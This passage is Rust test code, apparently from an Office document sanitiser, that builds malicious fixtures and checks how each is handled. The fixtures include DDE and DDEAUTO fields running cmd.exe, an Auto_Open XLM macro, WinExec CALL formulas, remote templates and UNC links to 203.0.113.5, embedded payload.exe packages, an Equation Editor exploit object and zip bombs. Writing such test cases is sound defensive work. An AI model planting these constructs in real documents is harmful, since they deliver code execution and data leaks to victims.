        rels_xml(&r)
    };
    let sheet1 = ("xl/worksheets/sheet1.xml", CT_SHEET, sheet("<c r=\"A1\" t=\"inlineStr\"><is><t>予算 budget</t></is></c><c r=\"B1\"><f>[1]Sheet1!A1</f><v>42</v></c>"));
    let ext_link = |inner: &str| {
        format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{RELS}\">{inner}</externalLink>").into_bytes()
    };
    for (name, inner, code, note) in [
        ("office/external_link.xlsx", "<externalBook r:id=\"rId1\"/>", OoxmlExternalRel, "external workbook link part and its file:// target removed"),
        ("office/dde_link.xlsx", "<ddeLink ddeService=\"cmd\" ddeTopic=\" /c calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink>", OoxmlDde, "ddeLink external link part removed"),
    ] {
        v.push(Case::new(
            name,
            package(
                "xl/workbook.xml",
                &[
                    ("xl/workbook.xml", CT_XLSX, workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", "<externalReferences><externalReference r:id=\"rId2\"/></externalReferences>")),
                    sheet1.clone(),
                    ("xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", ext_link(inner)),
                ],
                &[],
                &[
                    ("xl/_rels/workbook.xml.rels", xl_rels(&[("rId2", format!("{RELS}/externalLink"), "externalLinks/externalLink1.xml", false)])),
                    ("xl/externalLinks/_rels/externalLink1.xml.rels", rels_xml(&[("rId1", format!("{RELS}/externalLinkPath"), "file:///\\\\203.0.113.5\\share\\book.xlsx", true)])),
                ],
                &[],
            ),
            // The sheet's `[1]Sheet1!A1` formula reads the dropped link.
            Expect::sanitized(&[code, OoxmlField], note),
        ));
    }
    v.push(Case::new(
        "office/dde_formula.xlsx",
        package(
            "xl/workbook.xml",
            &[
                ("xl/workbook.xml", CT_XLSX, workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", "")),
                ("xl/worksheets/sheet1.xml", CT_SHEET, sheet("<c r=\"A1\"><f>cmd|' /c calc.exe'!A0</f><v>0</v></c><c r=\"B1\"><f>SUM(1,2)</f><v>3</v></c>")),
            ],
            &[],
            &[("xl/_rels/workbook.xml.rels", xl_rels(&[]))],
            &[],
        ),
        Expect::sanitized(&[OoxmlDde], "DDE formula =cmd|'/c calc'!A0 removed, cached value kept"),
    ));
    v.push(Case::new(
        "office/xlm_macrosheet.xlsm",
        package(
            "xl/workbook.xml",
            &[
                ("xl/workbook.xml", CT_XLSM, workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"M\" sheetId=\"2\" r:id=\"rId2\"/>", "<definedNames><definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></definedNames>")),
                ("xl/worksheets/sheet1.xml", CT_SHEET, sheet("<c r=\"A1\"><v>1</v></c>")),
                ("xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml", b"<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row><c><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>".to_vec()),
            ],
            &[],
            &[("xl/_rels/workbook.xml.rels", xl_rels(&[("rId2", format!("{MS_RELS}/xlMacrosheet"), "macrosheets/sheet2.xml", false)]))],
            &[],
        ),
        Expect::sanitized(&[OoxmlXlmMacro, OoxmlVba], "xlsm with an Excel 4.0 macro sheet and Auto_Open: sheet and name removed, rebuilt as xlsx"),
    ));

    // PowerPoint: ActiveX control and an embedded oleObject1.bin.
    let ole_bin =
        crate::office::cfb_file(&[("/\u{1}Ole10Native", b"\x10\0\0\0payload.exe\0MZ".to_vec())]);
    v.push(Case::new(
        "office/activex_ole.pptx",
        pptx(
            &format!("{}<p:graphicFrame><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><p:oleObj name=\"Packager\" r:id=\"rId3\" progId=\"Package\"/></a:graphicData></a:graphic></p:graphicFrame><p:controls><p:control r:id=\"rId4\" name=\"CommandButton1\"/></p:controls>", text_shape("スライド slide", "")),
            &[
                ("rId3", format!("{RELS}/oleObject"), "../embeddings/oleObject1.bin", false),
                ("rId4", format!("{RELS}/control"), "../activeX/activeX1.xml", false),
            ],
            vec![
                ("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", ole_bin),
                ("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\" ax:persistence=\"persistStreamInit\" r:id=\"rId1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>".to_vec()),
                ("ppt/activeX/activeX1.bin", "application/vnd.ms-office.activeX", vec![1, 2, 3]),
            ],
            vec![("ppt/activeX/_rels/activeX1.xml.rels", rels_xml(&[("rId1", format!("{MS_RELS}/activeXControlBinary"), "activeX1.bin", false)]))],
        ),
        Expect::sanitized(&[OoxmlActivex, OoxmlOleObject], "pptx with an ActiveX control and embeddings/oleObject1.bin: both removed"),
    ));
    v.push(Case::new(
        "office/ppt_program_action.pptx",
        pptx(
            &text_shape(
                "click me",
                "<a:hlinkClick r:id=\"rId5\" action=\"ppaction://program\"/>",
            ),
            &[(
                "rId5",
                format!("{RELS}/hyperlink"),
                "file:///C:/Windows/System32/calc.exe",
                true,
            )],
            vec![],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlExternalRel, OoxmlHyperlink],
            "a click action that runs a program removed, its link neutralised",
        ),
    ));

    // A field whose name a nested QUOTE field produces.
    let quoted = format!(
        "{plain}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> QUOTE &quot;DDE&quot; </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k calc.exe&quot;</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>shown result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    );
    v.push(Case::new(
        "office/quote_field_name.docx",
        docx(CT_DOCX, &quoted, &[], vec![], vec![]),
        Expect::sanitized(
            &[OoxmlField],
            "a field whose name starts with the result of a nested QUOTE field: removed, result kept",
        ),
    ));
    v.push(Case::new(
        "office/macrobutton.docx",
        docx(CT_DOCX, &format!("{plain}<w:p><w:fldSimple w:instr=\" MACROBUTTON AutoOpen Click \"><w:r><w:t>Click</w:t></w:r></w:fldSimple></w:p>"), &[], vec![], vec![]),
        Expect::sanitized(&[OoxmlField], "MACROBUTTON is not on the kept field list"),
    ));
    let page = format!("{plain}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> PA</w:instrText></w:r><w:r><w:instrText>GE \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
    v.push(Case::new(
        "office/page_field.docx",
        docx(CT_DOCX, &page, &[], vec![], vec![]),
        Expect::clean("a PAGE field split over two runs: kept"),
    ));
    // Mail merge data source in the settings.
    let merge = format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:settings {W_NS}><w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:connectString w:val=\"Provider=MSDASQL;DSN=\\\\203.0.113.5\\share\"/><w:query w:val=\"SELECT * FROM t\"/></w:mailMerge><w:zoom w:percent=\"100\"/></w:settings>").into_bytes();
    v.push(Case::new(
        "office/mail_merge.docx",
        docx(
            CT_DOCX,
            &plain,
            &[("rId3", format!("{RELS}/settings"), "settings.xml", false)],
            vec![(
                "word/settings.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                merge,
            )],
            vec![],
        ),
        Expect::sanitized(
            &[OoxmlDataConnection],
            "a mail merge data source queried on open removed",
        ),
    ));
    // Web extension task pane loading from a UNC share.
    let taskpanes = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><wetp:taskpane dockstate=\"right\" visibility=\"1\" width=\"350\" row=\"0\"><wetp:webextensionref r:id=\"rId1\"/></wetp:taskpane></wetp:taskpanes>".to_vec();
    let webext = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\" id=\"{1}\"><we:reference id=\"wa1\" version=\"1.0.0.0\" store=\"\\\\203.0.113.5\\addins\" storeType=\"Filesystem\"/></we:webextension>".to_vec();
    v.push(Case::new(
        "office/webextension_unc.docx",
        package(
            "word/document.xml",
            &[
                ("word/document.xml", CT_DOCX, word_doc(&plain)),
                (
                    "word/webextensions/taskpanes.xml",
                    "application/vnd.ms-office.webextensiontaskpanes+xml",
                    taskpanes,
                ),
                (
                    "word/webextensions/webextension1.xml",
                    "application/vnd.ms-office.webextension+xml",
                    webext,
                ),
            ],
            &[(
                "rId2",
                "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
                    .to_string(),
                "word/webextensions/taskpanes.xml",
                false,
            )],
            &[(
                "word/webextensions/_rels/taskpanes.xml.rels",
                rels_xml(&[(
                    "rId1",
                    "http://schemas.microsoft.com/office/2011/relationships/webextension"
                        .to_string(),
                    "webextension1.xml",
                    false,
                )]),
            )],
            &[],
        ),
        Expect::sanitized(
            &[OoxmlDataConnection],
            "a web extension task pane loading an add-in from a UNC share removed",
        ),
    ));
    // A UTF-16 custom XML part: written back as UTF-8, declared as such.
    let utf16: Vec<u8> = [0xFFu8, 0xFE]
        .into_iter()
        .chain(
            "<?xml version=\"1.0\" encoding=\"utf-16\"?><root xmlns=\"urn:x\"><v>データ</v></root>"
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes()),
        )
        .collect();
    v.push(Case::new(
        "office/utf16_customxml.docx",
        docx(
            CT_DOCX,
            &plain,
            &[(
                "rId8",
                format!("{RELS}/customXml"),
                "../customXml/item1.xml",
                false,
            )],
            vec![("customXml/item1.xml", "application/xml", utf16)],
            vec![],
        ),
        Expect::clean("a UTF-16 custom XML part, rewritten as UTF-8 with a matching declaration"),
    ));

    // Excel: data connections, query tables, Power Query, call-out formulas.
    let conn = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"q\" type=\"4\" refreshedVersion=\"6\" refreshOnLoad=\"1\"><webPr url=\"http://203.0.113.5/data.html\"/></connection></connections>".to_vec();
    let wb_rels = |extra: Vec<Rel<'static>>| {
        let mut r: Vec<Rel<'static>> = vec![(
            "rId1",
            format!("{RELS}/worksheet"),
            "worksheets/sheet1.xml",
            false,
        )];
        r.extend(extra);
        rels_xml(&r)
    };
    v.push(Case::new(
        "office/connections.xlsx",
        package(
            "xl/workbook.xml",
            &[
                (
                    "xl/workbook.xml",
                    CT_XLSX,
                    workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", ""),
                ),
                (
                    "xl/worksheets/sheet1.xml",
                    CT_SHEET,
                    sheet("<c r=\"A1\"><v>1</v></c>"),
                ),
                (
                    "xl/connections.xml",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
                    conn,
                ),
            ],
            &[],
            &[(
                "xl/_rels/workbook.xml.rels",
                wb_rels(vec![(
                    "rId2",
                    format!("{RELS}/connections"),
                    "connections.xml",
                    false,
                )]),
            )],
            &[],
        ),
        Expect::sanitized(
            &[OoxmlDataConnection],
            "xl/connections.xml (a web query refreshed on load) removed",
        ),
    ));
    let mashup: Vec<u8> = [0xFFu8, 0xFE]
        .into_iter()
        .chain(
            "<?xml version=\"1.0\" encoding=\"utf-16\"?><DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">AAAAAEQDAABQSwMEFAACAAgA</DataMashup>"
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes()),
        )
        .collect();
    v.push(Case::new(
        "office/power_query.xlsx",
        package(
            "xl/workbook.xml",
            &[
                (
                    "xl/workbook.xml",
                    CT_XLSX,
                    workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", ""),
                ),
                (
                    "xl/worksheets/sheet1.xml",
                    CT_SHEET,
                    sheet("<c r=\"A1\"><v>1</v></c>"),
                ),
                ("customXml/item1.xml", "application/xml", mashup),
            ],
            &[],
            &[(
                "xl/_rels/workbook.xml.rels",
                wb_rels(vec![(
                    "rId3",
                    format!("{RELS}/customXml"),
                    "../customXml/item1.xml",
                    false,
                )]),
            )],
            &[],
        ),
        Expect::sanitized(
            &[OoxmlDataConnection],
            "Power Query (DataMashup in a UTF-16 custom XML part) removed",
        ),
    ));
    v.push(Case::new(
        "office/callout_formulas.xlsx",
        package(
            "xl/workbook.xml",
            &[
                ("xl/workbook.xml", CT_XLSX, workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", "<definedNames><definedName name=\"Remote\">'\\\\203.0.113.5\\share\\[book.xlsx]Sheet1'!$A$1</definedName><definedName name=\"Local\">S!$A$1</definedName></definedNames>")),
                ("xl/worksheets/sheet1.xml", CT_SHEET, sheet("<c r=\"A1\"><f>WEBSERVICE(\"http://203.0.113.5/x\")</f><v>0</v></c><c r=\"B1\"><f>_xlfn.CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f><v>0</v></c><c r=\"C1\"><f>[1]Sheet1!A1</f><v>42</v></c><c r=\"D1\"><f>SUM(A1:C1)&amp;\"[1]\"</f><v>42</v></c>")),
            ],
            &[],
            &[("xl/_rels/workbook.xml.rels", wb_rels(vec![]))],
            &[],
        ),
        Expect::sanitized(&[OoxmlField], "WEBSERVICE, CALL and external-workbook formulas and a defined name into a share removed, cached values kept"),
    ));

    // Limits.
    let deep: String =
        "<w:sdt><w:sdtContent>".repeat(60) + &plain + &"</w:sdtContent></w:sdt>".repeat(60);
    v.push(Case::new(
        "office/deep_nesting.docx",
        docx(CT_DOCX, &deep, &[], vec![], vec![]),
        Expect::blocked(LimitDepth, &[], "XML nested 120 levels deep"),
    ));
    // Ordinary parts compress far past the ratio when they are small and
    // repetitive (a vector picture at 667:1): under the floor, not a bomb.
    let blank = vec![b' '; 2 << 20];
    v.push(Case::new(
        "office/small_high_ratio.docx",
        docx(
            CT_DOCX,
            &plain,
            &[(
                "rId8",
                format!("{RELS}/customXml"),
                "../customXml/item1.xml",
                false,
            )],
            vec![(
                "customXml/item1.xml",
                "application/xml",
                [b"<a>".as_slice(), &blank, b"</a>"].concat(),
            )],
            vec![],
        ),
        Expect::clean("a 2 MiB part at about 1000:1 is under the ratio floor"),
    ));
    let zeros = vec![b' '; 24 << 20];
    v.push(Case::new(
        "office/ratio_bomb.docx",
        docx(
            CT_DOCX,
            &plain,
            &[(
                "rId8",
                format!("{RELS}/customXml"),
                "../customXml/item1.xml",
                false,
            )],
            vec![(
                "customXml/item1.xml",
                "application/xml",
                [b"<a>".as_slice(), &zeros, b"</a>"].concat(),
            )],
            vec![],
        ),
        Expect::blocked(
            ArchiveBomb,
            &[],
            "a 24 MiB part that compresses more than 200:1",
        ),
    ));
    // The local header names another part than the central directory.
    let mut twisted = docx(CT_DOCX, &plain, &[], vec![], vec![]);
    if let Some(i) = twisted.windows(17).position(|w| w == b"word/document.xml") {
        twisted[i..i + 17].copy_from_slice(b"word/documenx.xml");
    }
    v.push(Case::new(
        "office/header_mismatch.docx",
        twisted,
        Expect::blocked(
            RebuildFailed,
            &[],
            "a local header that disagrees with the central directory",
        ),
    ));
    // Encrypted OOXML: an OLE2 container with EncryptedPackage.
    v.push(Case::new(
        "office/encrypted.docx",
        cfb_file(&[
            ("/EncryptionInfo", vec![4, 0, 4, 0, 0x40, 0, 0, 0]),
            ("/EncryptedPackage", vec![0u8; 4096]),
        ]),
        Expect::blocked(
            OoxmlEncrypted,
            &[],
            "password-protected docx (EncryptedPackage)",
        ),
    ));
    v
}

fn ole_cases() -> Vec<Case> {
    use Code::*;
    let mut v = Vec::new();
    let table = vec![0u8; 512];
    v.push(Case::new(
        "office/clean.doc",
        cfb_file(&[
            ("/WordDocument", word_stream(0x0200)),
            ("/1Table", table.clone()),
        ]),
        Expect::clean("a Word 97 binary without macros or objects"),
    ));
    let mut doc_vba = vec![
        ("/WordDocument".to_string(), word_stream(0x0200)),
        ("/1Table".to_string(), table.clone()),
    ];
    doc_vba.extend(vba_storage("/Macros"));
    v.push(Case::new(
        "office/vba.doc",
        cfb_owned(doc_vba),
        Expect::sanitized(
            &[OleVba],
            "Word binary with a Macros/VBA storage: storage removed",
        ),
    ));
    v.push(Case::new(
        "office/objectpool.doc",
        cfb_file(&[
            ("/WordDocument", word_stream(0x0200)),
            ("/1Table", table.clone()),
            (
                "/ObjectPool/_1234/\u{1}Ole10Native",
                b"\x10\0\0\0evil.exe\0MZ".to_vec(),
            ),
        ]),
        Expect::sanitized(
            &[OleEmbedded],
            "Word binary with an Ole10Native package in ObjectPool: removed",
        ),
    ));
    v.push(Case::new(
        "office/encrypted.doc",
        cfb_file(&[
            ("/WordDocument", word_stream(0x0300)),
            ("/1Table", table.clone()),
        ]),
        Expect::blocked(OleEncrypted, &[], "Word binary with FIB fEncrypted"),
    ));
    let (wd, tbl) = word97_field(
        "Before ",
        " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ",
        "shown result",
        " After",
    );
    v.push(Case::new(
        "office/dde_field.doc",
        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
        Expect::sanitized(
            &[OleField],
            "Word binary with a DDEAUTO field found through PlcfFldMom: instruction blanked in place, result kept",
        ),
    ));
    let (wd, tbl, data) = word97_hyperlink("http://evil.example/x");
    v.push(Case::new(
        "office/hyperlink_data.doc",
        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl), ("/Data", data)]),
        Expect::sanitized(
            &[OleField],
            "Word binary HYPERLINK field with its target in the Data stream: instruction blanked and the target data cleared with it",
        ),
    ));
    v.push(Case::new(
        "office/word6_fast_saved.doc",
        cfb_file(&[(
            "/WordDocument",
            word6_stream(0x0004, b"Fast saved \x13 DDEAUTO cmd \x14x\x15\r"),
        )]),
        Expect::blocked(
            OleField,
            &[],
            "fast-saved Word 6/95 document: its text lies in pieces the FIB does not give; fields cannot be checked",
        ),
    ));
    v.push(Case::new(
        "office/word6_dde_field.doc",
        cfb_file(&[(
            "/WordDocument",
            word6_stream(0, b"Word 6 \x13 DDEAUTO cmd \"/c calc\" \x14x\x15 end\r"),
        )]),
        Expect::sanitized(
            &[OleField],
            "Word 6/95 document without fast saves: the DDEAUTO field is found in the text and blanked",
        ),
    ));
    let (wd, tbl) = word97_field("Page ", " PAGE \\* MERGEFORMAT ", "1", "");
    v.push(Case::new(
        "office/page_field.doc",
        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
        Expect::clean("Word binary with a PAGE field (on the kept list)"),
    ));
    let (wd, tbl) = word97_field("", " MACROBUTTON Go run ", "click", "");
    v.push(Case::new(
        "office/macrobutton_field.doc",
        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
        Expect::sanitized(
            &[OleField],
            "Word binary MACROBUTTON field: off the kept list",
        ),
    ));
    // A field whose name a nested QUOTE field produces.
    let mut text = b"Before ".to_vec();
    let mut marks = Vec::new();
    for (part, mark) in [
        (&b""[..], Some((0x13u8, 0x2Eu8))),
        (b" ", Some((0x13, 0x23))),
        (b" QUOTE \"DDE\" ", Some((0x14, 0))),
        (b"DDE", Some((0x15, 0x80))),
        (
            b"AUTO c:\\\\windows\\\\system32\\\\cmd.exe ",
            Some((0x14, 0)),
        ),
        (b"shown result", Some((0x15, 0x80))),
        (b" After\r", None),
    ] {
        text.extend_from_slice(part);
        if let Some((ch, flags)) = mark {
            marks.push((text.len() as u32, ch, flags));
            text.push(ch);
        }
    }
    let (wd, tbl) = word97(&text, &marks);
    v.push(Case::new(
        "office/quote_field_name.doc",
        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
        Expect::sanitized(
            &[OleField],
            "Word binary field whose name a nested QUOTE field builds: instruction blanked, result kept",
        ),
    ));
    v.push(Case::new(
        "office/irm.doc",
        cfb_file(&[
            ("/WordDocument", word_stream(0x0200)),
            ("/1Table", table.clone()),
            ("/\u{6}DataSpaces/Version", vec![0u8; 64]),
            ("/\u{9}DRMContent", vec![0x5Au8; 4096]),
        ]),
        Expect::blocked(
            OleEncrypted,
            &[],
            "rights-managed (IRM) Word document: the content sits encrypted in DRMContent",
        ),
    ));
    v.push(Case::new(
        "office/clean.xls",
        cfb_file(&[("/Workbook", workbook_stream(0, false))]),
        Expect::clean("a BIFF8 workbook without macros"),
    ));
    let mut xls_vba = vec![("/Workbook".to_string(), workbook_stream(0, false))];
    xls_vba.extend(vba_storage("/_VBA_PROJECT_CUR"));
    v.push(Case::new(
        "office/vba.xls",
        cfb_owned(xls_vba),
        Expect::sanitized(
            &[OleVba],
            "BIFF8 workbook with _VBA_PROJECT_CUR: storage removed",
        ),
    ));
    v.push(Case::new(
        "office/xlm_macro.xls",
        cfb_file(&[("/Workbook", workbook_stream(1, false))]),
        Expect::blocked(
            OleXlmMacro,
            &[],
            "BIFF8 workbook with an Excel 4.0 macro sheet (BOUNDSHEET type 1)",
        ),
    ));
    v.push(Case::new(
        "office/dde_supbook.xls",
        cfb_file(&[("/Workbook", workbook_dde_stream())]),
        Expect::sanitized(
            &[OleField],
            "BIFF8 workbook with a DDE link (SUPBOOK cmd|' /c calc', EXTERNNAME A0): made an unused link in place",
        ),
    ));
    v.push(Case::new(
        "office/encrypted.xls",
        cfb_file(&[("/Workbook", workbook_stream(0, true))]),
        Expect::blocked(OleEncrypted, &[], "BIFF8 workbook with FILEPASS"),
    ));
    v.push(Case::new(
        "office/clean.ppt",
        cfb_file(&[
            (
                "/PowerPoint Document",
                ppt_stream(&[(0x0001, 0x03E9, vec![0; 40])]),
            ),
            ("/Current User", vec![0u8; 32]),
        ]),
        Expect::clean("a PowerPoint binary without macros or objects"),
    ));
    v.push(Case::new(
        "office/vba.ppt",
        cfb_file(&[
            (
                "/PowerPoint Document",
                ppt_stream(&[(
                    0x000F,
                    0x03FF,
                    vec![
                        0x00, 0x00, 0x00, 0x04, 0x0C, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0,
                    ],
                )]),
            ),
            ("/Current User", vec![0u8; 32]),
        ]),
        Expect::sanitized(
            &[OleVba],
            "PowerPoint binary whose VBAInfoAtom says it has macros: marked absent",
        ),
    ));
    let object = cfb_file(&[("/\u{1}Ole10Native", b"\x10\0\0\0payload.exe\0MZ".to_vec())]);
    v.push(Case::new(
        "office/embedded_object.ppt",
        cfb_file(&[
            (
                "/PowerPoint Document",
                ppt_stream(&[
                    (0x0001, 0x03E9, vec![0; 40]),
                    (0x0000, 0x1011, object),
                ]),
            ),
            ("/Current User", vec![0u8; 32]),
        ]),
        Expect::sanitized(
            &[OleEmbedded],
            "PowerPoint binary with an embedded package (ExOleObjStg): the storage is emptied in place",
        ),
    ));
    v.push(Case::new(
        "office/vba_info_no_macros.ppt",
        cfb_file(&[
            (
                "/PowerPoint Document",
                ppt_stream(&[(
                    0x000F,
                    0x03FF,
                    vec![
                        0x00, 0x00, 0x00, 0x04, 0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0,
                    ],
                )]),
            ),
            ("/Current User", vec![0u8; 32]),
        ]),
        Expect::clean("PowerPoint binary with a VBA-info record whose fHasMacros is 0: no macros"),
    ));
    v.push(Case::new(
        "office/book_upper.xls",
        cfb_file(&[("/BOOK", workbook_stream(0, false))]),
        Expect::clean(
            "an Excel 5 workbook whose stream is named BOOK (names compare case-insensitively)",
        ),
    ));
    v.push(Case::new(
        "office/outlook.msg",
        cfb_file(&[
            (
                "/__substg1.0_0037001F",
                "件名"
                    .encode_utf16()
                    .flat_map(|u| u.to_le_bytes())
                    .collect(),
            ),
            ("/__properties_version1.0", vec![0u8; 32]),
        ]),
        Expect::clean("an Outlook .msg with only a subject is text-ized as mail"),
    ));
    v.push(Case::new(
        "office/ichitaro.jtd",
        cfb_file(&[
            ("/DocumentText", vec![0u8; 64]),
            ("/JSRV_SegmentList", vec![0u8; 16]),
        ]),
        Expect::blocked(OleUnknown, &[], "Ichitaro is not on the default allow-list"),
    ));
    v
}

fn rtf_cases() -> Vec<Case> {
    use Code::*;
    let head = "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil MS Mincho;}}\\pard\\f0 ";
    let mut v = Vec::new();
    v.push(Case::new(
        "office/clean.rtf",
        format!("{head}Hello \\'82\\'a0 world\\par}}").into_bytes(),
        Expect::clean("plain RTF text"),
    ));
    v.push(Case::new(
        "office/objdata.rtf",
        format!("{head}Before{{\\object\\objemb\\objupdate{{\\*\\objclass Equation.3}}\\objw380\\objh260{{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000}}{{\\result{{\\rtlch shown}}}}}}After\\par}}").into_bytes(),
        Expect::sanitized(&[RtfObject], "Equation Editor object with \\objdata and \\objupdate removed (CVE-2017-11882 style)"),
    ));
    v.push(Case::new(
        "office/remote_template.rtf",
        format!("{head}{{\\*\\template http://203.0.113.5/t.dot}}Text\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfTemplate],
            "\\*\\template pointing at a remote server removed",
        ),
    ));
    v.push(Case::new(
        "office/ddeauto.rtf",
        format!("{head}{{\\field{{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt x}}}}\\par}}").into_bytes(),
        Expect::sanitized(&[RtfField], "DDEAUTO field instruction removed, its result kept"),
    ));
    v.push(Case::new(
        "office/bin_upper_equation.rtf",
        format!("{head}Before\\BIN60 {{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000}}{{\\result{{shown}}}}}}After\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfObject, RtfDropped],
            "\\BIN is not \\bin (control words are case-sensitive): the Equation Editor object behind it is read and removed, the foreign word dropped",
        ),
    ));
    v.push(Case::new(
        "office/ddeauto_split_groups.rtf",
        format!("{head}{{\\field{{\\*\\fldinst {{\\rtlch DD}}{{\\b E}}A\\'55TO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt shown}}}}\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfField],
            "DDEAUTO split across groups and a hex escape: joined without separators, removed",
        ),
    ));
    v.push(Case::new(
        "office/quote_field_name.rtf",
        format!("{head}{{\\field{{\\*\\fldinst {{\\field{{\\*\\fldinst QUOTE \"DDEAUTO\"}}{{\\fldrslt DDEAUTO}}}} c:\\\\windows\\\\system32\\\\cmd.exe}}{{\\fldrslt shown}}}}\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfField],
            "a field whose name a nested QUOTE field builds: removed, result kept",
        ),
    ));
    v.push(Case::new(
        "office/linked_picture.rtf",
        format!("{head}{{\\shp{{\\*\\shpinst\\shpleft0\\shptop0\\shpright100\\shpbottom100{{\\sp{{\\sn shapeType}}{{\\sv 75}}}}{{\\sp{{\\sn pibName}}{{\\sv \\\\\\\\203.0.113.5\\\\share\\\\x.png}}}}{{\\sp{{\\sn pibFlags}}{{\\sv 10}}}}}}}}Text\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfDropped],
            "a shape whose picture is linked to a file on a share (pibName): the file name is removed",
        ),
    ));
    v.push(Case::new(
        "office/unknown_destination.rtf",
        format!("{head}{{\\*\\mydata 4d5a9000}}{{\\*\\generator Word;}}Text\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfDropped],
            "an ignorable destination outside the kept list dropped; \\*\\generator kept",
        ),
    ));
    v.push(Case::new(
        "office/stray_objdata.rtf",
        format!("{head}{{\\rtlch kept \\objdata 0105000002}}Tail\\par}}").into_bytes(),
        Expect::sanitized(
            &[RtfObject],
            "\\objdata that is not first in its group still starts an object destination",
        ),
    ));
    v.push(Case::new(
        "office/wmf_picture.rtf",
        format!("{head}{{\\pict\\wmetafile8\\picw100\\pich100 0100090000036e00000000004500000000000000}}Text\\par}}").into_bytes(),
        Expect::sanitized(&[OfficeUnsupported], "WMF picture: no rebuilder for metafiles, dropped"),
    ));
    let deep = format!("{head}{}x{}}}", "{".repeat(100), "}".repeat(100));
    v.push(Case::new(
        "office/deep.rtf",
        deep.into_bytes(),
        Expect::blocked(LimitDepth, &[], "RTF groups nested 100 deep"),
    ));
    v
}

/// A minimal Word document whose body is `text` (used by other tests).
pub fn minimal_docx(text: &str) -> Vec<u8> {
    let esc = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let doc = format!(
